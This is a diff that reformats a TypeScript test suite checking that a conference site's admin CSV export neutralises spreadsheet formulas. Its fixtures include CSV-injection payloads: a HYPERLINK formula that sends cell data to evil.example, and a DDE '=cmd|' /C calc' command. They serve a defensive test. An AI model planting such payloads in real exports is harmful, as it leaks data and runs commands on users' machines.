@@ -53,17 +53,41 @@ describe('the records export neutralises formulas in everything authors can writ
     const asAdmin = { cookie: admin.cookie };
     // Through the API: the forms trim, so these start with the formula character itself.
     const throughApi = [
-      { username: '=HYPERLINK("http://evil.example/?"&A1,"Click")', email: `+cmd.${Date.now()}@example.org`, title: '=1+1', paymentId: '=cmd|\' /C calc\'!A0' },
+      {
+        username: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        email: `+cmd.${Date.now()}@example.org`,
+        title: '=1+1',
+        paymentId: "=cmd|' /C calc'!A0",
+      },
       { username: '+SUM(1,2)', email: `-2.${Date.now()}@example.org`, title: '-2+3', paymentId: '@SUM(A1:A9)' },
-      { username: '@import', email: uniqueEmail('at'), title: '+"quoted, with a comma"\nand a line break', paymentId: '-1' },
+      {
+        username: '@import',
+        email: uniqueEmail('at'),
+        title: '+"quoted, with a comma"\nand a line break',
+        paymentId: '-1',
+      },
     ];
     for (const input of throughApi) {
-      const res = await t.app.inject({ method: 'POST', url: `${API}/auth/register`, payload: { username: input.username, email: input.email, password: 'correct horse battery' } });
+      const res = await t.app.inject({
+        method: 'POST',
+        url: `${API}/auth/register`,
+        payload: { username: input.username, email: input.email, password: 'correct horse battery' },
+      });
       expect(res.statusCode, res.body).toBe(201);
       const cookie = sessionCookieOf(res);
       const paper = await createTestPaper(t.app, { cookie } as TestUser, { title: input.title });
-      await t.app.inject({ method: 'PUT', url: `${API}/admin/papers/${paper._id}/status`, headers: asAdmin, payload: { status: 'abstract_accepted' } });
-      const paid = await t.app.inject({ method: 'PATCH', url: `${API}/papers/${paper._id}/payment`, headers: { cookie }, payload: { paymentId: input.paymentId } });
+      await t.app.inject({
+        method: 'PUT',
+        url: `${API}/admin/papers/${paper._id}/status`,
+        headers: asAdmin,
+        payload: { status: 'abstract_accepted' },
+      });
+      const paid = await t.app.inject({
+        method: 'PATCH',
+        url: `${API}/papers/${paper._id}/payment`,
+        headers: { cookie },
+        payload: { paymentId: input.paymentId },
+      });
       expect(paid.statusCode, paid.body).toBe(200);
       // Payment IDs are stored in one form: no spaces, upper case.
       const storedPaymentId = normalizePaymentId(input.paymentId);
@@ -71,7 +95,11 @@ describe('the records export neutralises formulas in everything authors can writ
       paymentIds.push(storedPaymentId);
     }
     // Tab and carriage return cannot lead a trimmed form value; older rows or imports could hold them.
-    const raw = await createUser(t.app.ctx, { username: '\t=2*3', email: uniqueEmail('tab'), password: 'correct horse battery' });
+    const raw = await createUser(t.app.ctx, {
+      username: '\t=2*3',
+      email: uniqueEmail('tab'),
+      password: 'correct horse battery',
+    });
     const { token } = await createSession(t.app.ctx, raw.id);
     const rawPaper = await createTestPaper(t.app, { cookie: `ictacem_session=${token}` } as TestUser);
     await t.app.ctx.db.update(papers).set({ title: '\r=cmd', paymentId: '\t@x' }).where(eq(papers.id, rawPaper._id));
@@ -80,28 +108,39 @@ describe('the records export neutralises formulas in everything authors can writ
   });
   afterAll(() => t.close());
 
-  it.each(['financial', 'evaluation'])('exports the %s table with every formula cell prefixed and the columns intact', async (view) => {
-    const res = await t.app.inject({ method: 'GET', url: `${API}/admin/records/export?view=${view}`, headers: { cookie: admin.cookie } });
-    expect(res.statusCode).toBe(200);
-    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
-    expect(res.headers['content-disposition']).toBe(`attachment; filename="ictacem2025-${view}.csv"`);
-    const [header, ...rows] = parseCsv(res.body);
-    // The four authors' papers, and the admin, an account without a paper.
-    expect(rows).toHaveLength(5);
-    for (const row of rows) {
-      expect(row).toHaveLength(header!.length);
-      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
-    }
-    const cells = rows.flat();
-    // The evaluation table has no payment column.
-    const expectedHere = written.filter((text) => view === 'financial' || !paymentIds.includes(text));
-    for (const text of expectedHere) {
-      expect(cells, JSON.stringify(text)).toContain(FORMULA_START.test(text) ? `'${text}` : text);
-    }
-  });
+  it.each(['financial', 'evaluation'])(
+    'exports the %s table with every formula cell prefixed and the columns intact',
+    async (view) => {
+      const res = await t.app.inject({
+        method: 'GET',
+        url: `${API}/admin/records/export?view=${view}`,
+        headers: { cookie: admin.cookie },
+      });
+      expect(res.statusCode).toBe(200);
+      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+      expect(res.headers['content-disposition']).toBe(`attachment; filename="ictacem2025-${view}.csv"`);
+      const [header, ...rows] = parseCsv(res.body);
+      // The four authors' papers, and the admin, an account without a paper.
+      expect(rows).toHaveLength(5);
+      for (const row of rows) {
+        expect(row).toHaveLength(header!.length);
+        for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
+      }
+      const cells = rows.flat();
+      // The evaluation table has no payment column.
+      const expectedHere = written.filter((text) => view === 'financial' || !paymentIds.includes(text));
+      for (const text of expectedHere) {
+        expect(cells, JSON.stringify(text)).toContain(FORMULA_START.test(text) ? `'${text}` : text);
+      }
+    },
+  );
 
   it('neutralises the same cells when the export is searched and filtered', async () => {
-    const res = await t.app.inject({ method: 'GET', url: `${API}/admin/records/export?view=financial&filter=paid&search=${encodeURIComponent('=')}`, headers: { cookie: admin.cookie } });
+    const res = await t.app.inject({
+      method: 'GET',
+      url: `${API}/admin/records/export?view=financial&filter=paid&search=${encodeURIComponent('=')}`,
+      headers: { cookie: admin.cookie },
+    });
     expect(res.statusCode).toBe(200);
     const [, ...rows] = parseCsv(res.body);
     expect(rows.length).toBeGreaterThan(0);
